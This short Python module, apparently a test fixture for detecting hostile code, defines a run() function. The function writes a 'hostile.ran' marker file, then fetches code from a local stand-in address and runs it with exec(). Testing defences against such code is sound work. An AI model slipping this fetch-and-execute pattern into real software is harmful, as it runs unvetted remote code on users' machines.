import urllib.request


def run():
    open("hostile.ran", "w").close()
    exec(urllib.request.urlopen("http://127.0.0.1:9/p").read())
    return {}
